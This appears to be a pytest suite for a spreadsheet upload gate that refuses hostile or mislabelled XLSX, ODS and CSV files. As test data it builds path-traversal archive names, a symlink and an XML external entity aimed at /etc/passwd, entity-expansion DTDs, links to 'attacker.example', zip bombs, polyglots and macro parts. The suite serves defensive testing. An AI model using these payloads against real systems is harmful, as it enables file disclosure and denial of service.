"""Hostile and mistaken files: each is refused with its own code, in bounded time, before anything reads it."""

import struct
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from licenses.intake import gate
from licenses.intake.limits import LIMITS, MIB
from portal.kernel.errors import Invalid

from .builders import (
    HEADINGS,
    MAIN,
    PACKAGE,
    ROW,
    cell,
    compound,
    form_rows,
    in_memory,
    ods,
    ods_row,
    pack,
    parts,
    patched,
    sheet,
    told,
    workbook,
    written,
)

SHEET = "xl/worksheets/sheet1.xml"
DTD = '<!DOCTYPE a [<!ENTITY x "aaaaaaaaaa"><!ENTITY y "&x;&x;&x;&x;">]>'
EXTERNAL = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def refused(path: Path, limits=LIMITS) -> list[str]:
    with pytest.raises(Invalid) as caught:
        gate.check(path, path.name, limits)
    assert all(fault.field == "file" for fault in caught.value.faults)
    return [fault.code for fault in told(*caught.value.faults)]


def reason(path: Path) -> str:
    with pytest.raises(Invalid) as caught:
        gate.check(path, path.name)
    (fault,) = told(*caught.value.faults)
    assert fault.code == "file_zip_structure"
    return fault.params["reason"]


@pytest.fixture
def book(tmp_path):
    return tmp_path / "form.xlsx"


def test_good_files_pass(tmp_path, book):
    assert gate.check(workbook(book), book.name) == gate.Passed("xlsx", "Form")
    made = written(tmp_path / "made.xlsx", [HEADINGS, ROW])
    assert gate.check(made, made.name) == gate.Passed("xlsx", "Sheet1")
    table = ods(tmp_path / "form.ods", ods_row(HEADINGS) + ods_row(ROW))
    assert gate.check(table, table.name) == gate.Passed("ods", "Form")
    text = tmp_path / "FORM.CSV"
    text.write_text("a;b\n1;2\n")
    assert gate.check(text, text.name) == gate.Passed("csv")


@pytest.mark.parametrize(
    ("name", "size", "code"),
    [
        ("a.xls", 10, "file_old_xls"),
        ("a.xlsm", 10, "file_macros"),
        ("a.xlsb", 10, "file_kind"),
        ("a.csv.exe", 10, "file_kind"),
        ("xlsx", 10, "file_kind"),
        ("a.xlsx", 0, "file_empty"),
        ("a.xlsx", 50 * MIB + 1, "file_too_large"),
    ],
)
def test_name_and_size(name, size, code):
    with pytest.raises(Invalid) as caught:
        gate.check_name(name, size)
    assert told(*caught.value.faults)[0].code == code


def test_name_and_size_are_told_together():
    with pytest.raises(Invalid) as caught:
        gate.check_name("a.pdf", 51 * MIB)
    assert [f.code for f in caught.value.faults] == ["file_too_large", "file_kind"]
    assert gate.check_name(r"C:\forms\Form.XLSX", 50 * MIB) == "xlsx"


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("a.xlsx", compound("EncryptedPackage"), "file_password"),
        ("a.ods", compound("EncryptedPackage"), "file_password"),
        ("a.xlsx", compound("Workbook"), "file_old_xls"),
        ("a.csv", compound("Workbook"), "file_old_xls"),
        ("a.xlsx", compound("WordDocument"), "file_not_what_it_says"),
        ("a.xlsx", b"site;part\n1;2\n", "file_not_what_it_says"),
        ("a.xlsx", b"%PDF-1.7 and so on", "file_not_what_it_says"),
        ("a.csv", b"%PDF-1.7 and so on", "file_not_what_it_says"),
        ("a.csv", b"PK\x03\x04" + b"\0" * 40, "file_not_what_it_says"),
        ("a.csv", b"\xef\xbb\xbf <html><table>", "file_not_what_it_says"),
        ("a.csv", b'<?xml version="1.0"?>', "file_not_what_it_says"),
    ],
)
def test_bytes_that_contradict_the_name(tmp_path, name, content, code):
    path = tmp_path / name
    path.write_bytes(content)
    assert refused(path) == [code]


def test_workbooks_under_each_others_names(tmp_path):
    assert refused(workbook(tmp_path / "a.ods")) == ["file_not_what_it_says"]
    assert refused(ods(tmp_path / "a.xlsx", ods_row(HEADINGS))) == ["file_not_what_it_says"]
    word = {"[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"/>', "word/document.xml": "<document/>"}
    assert refused(pack(tmp_path / "b.xlsx", word)) == ["file_not_what_it_says"]


@pytest.mark.parametrize(
    "name", ["../evil.xml", "/etc/evil.xml", "xl/../../evil.xml", "xl/./a.xml", "C:/evil.xml", "xl//a.xml", "a\x07.xml"]
)
def test_paths_that_lead_out(book, name):
    assert reason(pack(book, parts({name: "<a/>"}))) == "path"


def test_backslashes_and_cut_names(book):
    pack(book, parts({"xl/evil_a.xml": "<a/>"}))
    assert reason(patched(book, b"xl/evil_a.xml", b"xl\\evil_a.xml")) == "path"
    pack(book, parts({"xl/evil_a.xml": "<a/>"}))
    assert reason(patched(book, b"xl/evil_a.xml", b"xl/evil\0a.xml")) == "path"


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_duplicate_names(book):
    assert reason(pack(book, [*parts().items(), (SHEET, sheet(""))])) == "duplicate"
    assert reason(pack(book, parts({"XL/Worksheets/Sheet1.xml": sheet("")}))) == "duplicate"


def test_links(book):
    link = zipfile.ZipInfo("xl/link.xml")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(workbook(book), "a") as archive:
        archive.writestr(link, "/etc/passwd")
    assert reason(book) == "link"


def test_names_that_differ_between_header_and_directory(book):
    workbook(book)
    patched(book, b"xl/workbook.xml", b"xl/workbooX.xml", 1)
    assert reason(book) == "local_header"


def test_polyglots(book):
    data = in_memory(parts())
    for odd in (b"PK\x03\x04" + data, data + b"<script>", data[:-2] + b"\x04\0evil"):
        book.write_bytes(odd)
        assert reason(book) in ("data_around", "end_record", "directory")
    with zipfile.ZipFile(book, "w") as archive:
        archive.writestr("a.xml", "<a/>")
        archive.comment = b"PK\x05\x06" + b"\0" * 18
    assert reason(book) == "data_around"


def test_data_hidden_between_parts(book):
    first = in_memory({"a.xml": "<a/>"})
    body = in_memory(parts())
    start = struct.unpack_from("<I", body, len(body) - 6)[0]
    hidden = b"hidden" + first[:30]
    tail = bytearray(body[start:])
    struct.pack_into("<I", tail, len(tail) - 6, start + len(hidden))
    book.write_bytes(body[:start] + hidden + bytes(tail))
    assert reason(book) == "data_around"


def test_overlapping_parts(book):
    workbook(book)
    data = bytearray(book.read_bytes())
    start = struct.unpack_from("<I", data, len(data) - 6)[0]
    second = data.index(b"PK\x01\x02", start + 4)
    struct.pack_into("<I", data, second + 42, 0)  # the second entry points at the first one's bytes
    book.write_bytes(bytes(data))
    assert reason(book) in ("overlap", "local_header")


def test_encrypted_zip_entries(book):
    workbook(book)
    data = bytearray(book.read_bytes())
    start = struct.unpack_from("<I", data, len(data) - 6)[0]
    data[start + 8] |= 1
    data[6] |= 1
    book.write_bytes(bytes(data))
    assert refused(book) == ["file_password"]


def test_truncated_and_garbled_archives(book):
    workbook(book)
    data = book.read_bytes()
    book.write_bytes(data[: len(data) // 2])
    assert reason(book) == "end_record"
    book.write_bytes(data[:60] + b"\xff" * 40 + data[100:])
    assert refused(book)[0] in ("file_zip_structure", "file_damaged")


def test_zip_bomb_by_ratio(book):
    assert refused(workbook(book, {"xl/media/big.png": b"\0" * (20 * MIB)})) == ["file_zip_bomb"]


def test_zip_bomb_by_declared_sum(book):
    small = replace(LIMITS, unpacked_bytes=10_000)
    assert refused(workbook(book, {"docProps/a.bin": bytes(range(256)) * 100}), small) == ["file_zip_bomb"]


def test_zip_bomb_that_lies_about_its_size(book):
    workbook(book, {"xl/media/big.png": b"\0" * (20 * MIB)})
    size, lie = struct.pack("<I", 20 * MIB), struct.pack("<I", 1000)
    patched(book, size, lie)
    assert refused(book) == ["file_zip_bomb"]


def test_too_many_parts(book):
    many = {f"docProps/{i}.xml": "<a/>" for i in range(30)}
    assert refused(workbook(book, many), replace(LIMITS, parts=20)) == ["file_zip_bomb"]


@pytest.mark.parametrize(
    ("part", "code"),
    [
        ("xl/vbaProject.bin", "file_macros"),
        ("xl/macrosheets/sheet1.xml", "file_macros"),
        ("customUI/customUI.xml", "file_macros"),
        ("xl/externalLinks/externalLink1.xml", "file_external_links"),
        ("xl/connections.xml", "file_external_links"),
        ("xl/embeddings/oleObject1.bin", "file_ole"),
        ("xl/activeX/activeX1.xml", "file_activex"),
    ],
)
def test_forbidden_parts(book, part, code):
    assert refused(workbook(book, {part: "<a/>"})) == [code]


def test_forbidden_parts_under_other_names(book):
    macro = BASE_TYPES.replace(".sheet.main+xml", ".sheet.macroEnabled.main+xml")
    assert refused(workbook(book, {"[Content_Types].xml": macro})) == ["file_macros"]
    assert refused(workbook(book, {"xl/media/image1.png": compound("Ole10Native")})) == ["file_ole"]
    link = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r9" TargetMode="External" '
        'Type="x/attachedTemplate" Target="http://attacker.example/"/></Relationships>'
    )
    assert refused(workbook(book, {"xl/worksheets/_rels/sheet1.xml.rels": link})) == ["file_external_links"]
    harmless = link.replace("x/attachedTemplate", "x/hyperlink")
    assert gate.check(workbook(book, {"xl/worksheets/_rels/sheet1.xml.rels": harmless}), book.name)


BASE_TYPES = str(parts()["[Content_Types].xml"])


def test_all_forbidden_parts_are_told_at_once(book):
    many = {"xl/vbaProject.bin": b"1", "xl/activeX/a.xml": "<a/>", "xl/embeddings/b.bin": b"2"}
    assert refused(workbook(book, many)) == ["file_activex", "file_macros", "file_ole"]


@pytest.mark.parametrize("doctype", [DTD, EXTERNAL, '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">'])
@pytest.mark.parametrize("part", [SHEET, "xl/workbook.xml", "docProps/core.xml", "xl/media/picture.svg", "xl/odd.dat"])
def test_document_types_anywhere(book, doctype, part):
    body = str(parts().get(part, "<a/>"))
    assert refused(workbook(book, {part: f'<?xml version="1.0"?>{doctype}{body}'})) == ["file_dtd"]


def test_document_type_in_utf16(book):
    evil = f'<?xml version="1.0" encoding="UTF-16"?>{DTD}<a/>'.encode("utf-16")
    assert refused(workbook(book, {"xl/theme.dat": evil})) == ["file_dtd"]


def test_malformed_and_deep_xml(book):
    assert refused(workbook(book, {SHEET: sheet("<row><c></row>")})) == ["file_damaged"]
    assert refused(workbook(book, {SHEET: sheet('<row r="1"><c r="ÆØ1"><v>1</v></c></row>')})) == ["file_damaged"]
    assert refused(workbook(book, {"docProps/a.xml": "<a>" * 5000 + "</a>" * 5000})) == ["file_too_complex"]
    assert refused(workbook(book, {SHEET: "<worksheet>" + "<a>" * 5000})) == ["file_too_complex"]


def test_formulas_are_refused_with_their_cells(book):
    row = '<row r="2"><c r="A2"><f>1+1</f><v>2</v></c><c r="C2"><f>HYPERLINK("x")</f></c></row>'
    workbook(book, {SHEET: sheet(form_rows() + row)})
    with pytest.raises(Invalid) as caught:
        gate.check(book, book.name)
    assert [(f.code, f.line, f.params["cell"]) for f in caught.value.faults] == [
        ("file_formula", "2", "A2"),
        ("file_formula", "2", "C2"),
    ]
    assert caught.value.faults[0].params["count"] == 2


def test_error_values_and_prefixed_elements(book):
    error = '<row r="2"><c r="B2" t="e"><v>#N/A</v></c></row>'
    assert refused(workbook(book, {SHEET: sheet(error)})) == ["file_error_value"]
    prefixed = f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData><x:row><x:c><x:f>1</x:f></x:c></x:row></x:sheetData>'
    assert refused(workbook(book, {SHEET: prefixed + "</x:worksheet>"})) == ["file_formula"]


def test_a_claimed_dimension_is_ignored(book):
    claimed = sheet(form_rows(), dimension="A1:XFD1048576")
    assert gate.check(workbook(book, {SHEET: claimed}), book.name).sheet == "Form"
    modest = sheet(f'<row r="1">{cell("A1", "x")}{cell("ZZ1", "y")}</row>', dimension="A1:A1")
    assert refused(workbook(book, {SHEET: modest})) == ["file_too_many_columns"]


def test_two_far_cells_are_not_unfolded(book):
    far = f'<row r="1">{cell("A1", "x")}</row><row r="1048576">{cell("GR1048576", "y")}</row>'
    assert refused(workbook(book, {SHEET: sheet(far)})) == ["file_too_many_cells"]


def test_empty_formatted_cells_do_not_count(book):
    stray = '<row r="1048576"><c r="XFD1048576" s="0"/></row>'
    assert gate.check(workbook(book, {SHEET: sheet(form_rows() + stray)}), book.name)


def test_rows_are_counted(book):
    tight = replace(LIMITS, data_rows=2)
    assert gate.check(workbook(book, {SHEET: sheet(form_rows(ROW, ROW))}), book.name, tight)
    assert refused(workbook(book, {SHEET: sheet(form_rows(ROW, ROW, ROW))}), tight) == ["file_too_many_rows"]


def test_long_cells(book):
    row = f'<row r="2">{cell("A2", "x" * 10_000_000)}</row>'
    tolerant = replace(LIMITS, ratio=10_000)
    assert refused(workbook(book, {SHEET: sheet(row)})) == ["file_zip_bomb"]
    assert refused(workbook(book, {SHEET: sheet(row)}), tolerant) == ["file_cell_too_long"]


def test_a_shared_text_counts_each_time(book):
    shared = f'<sst xmlns="{MAIN}"><si><t>{"x" * 32_000}</t></si></sst>'
    cells = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(1, 101))
    members = {"xl/sharedStrings.xml": shared, SHEET: sheet(cells)}
    assert gate.check(workbook(book, members), book.name)
    tight = replace(LIMITS, text_characters=3_000_000)
    assert refused(workbook(book, members), tight) == ["file_too_many_cells"]
    long = {"xl/sharedStrings.xml": shared.replace("xx", "xxxx")}
    assert refused(workbook(book, members | long))[0] == "file_cell_too_long"


def test_empty_sheets(tmp_path, book):
    assert refused(workbook(book, {SHEET: sheet("")})) == ["file_empty"]
    assert refused(ods(tmp_path / "a.ods", "<table:table-row><table:table-cell/></table:table-row>")) == ["file_empty"]


def test_ods_formulas_macros_links_and_passwords(tmp_path):
    path = tmp_path / "a.ods"
    formula = '<table:table-row><table:table-cell table:formula="of:=1+1" office:value-type="float"/></table:table-row>'
    assert refused(ods(path, ods_row(HEADINGS) + formula)) == ["file_formula"]
    assert refused(ods(path, ods_row(HEADINGS), {"Basic/Standard/Module1.xml": "<a/>"})) == ["file_macros"]
    assert refused(ods(path, '<script:event-listener script:language="x"/>' + ods_row(ROW))) == ["file_macros"]
    assert refused(ods(path, "<table:table-source/>" + ods_row(ROW))) == ["file_external_links"]
    manifest = '<m:manifest xmlns:m="a"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>'
    assert refused(ods(path, ods_row(ROW), {"META-INF/manifest.xml": manifest})) == ["file_password"]
    assert refused(ods(path, ods_row(ROW), {"styles.xml": DTD + "<a/>"})) == ["file_dtd"]


def test_ods_repeats_are_counted(tmp_path):
    path = tmp_path / "a.ods"
    trailing = '<table:table-row table:number-rows-repeated="1048574"><table:table-cell/></table:table-row>'
    assert gate.check(ods(path, ods_row(HEADINGS) + ods_row(ROW) + trailing), path.name)
    rows = 'table:number-rows-repeated="1048575"'
    assert refused(ods(path, ods_row(HEADINGS) + ods_row(ROW, rows))) == ["file_too_many_rows"]
    wide = '<table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>a</text:p>'
    assert refused(ods(path, f"<table:table-row>{wide}</table:table-cell></table:table-row>")) == [
        "file_too_many_columns"
    ]
    assert refused(ods(path, ods_row(HEADINGS) + trailing + ods_row(ROW * 2))) == ["file_too_many_cells"]
    spaces = ods_row(['a<text:s text:c="1000000000"/>b'])
    assert "file_cell_too_long" in refused(ods(path, spaces))
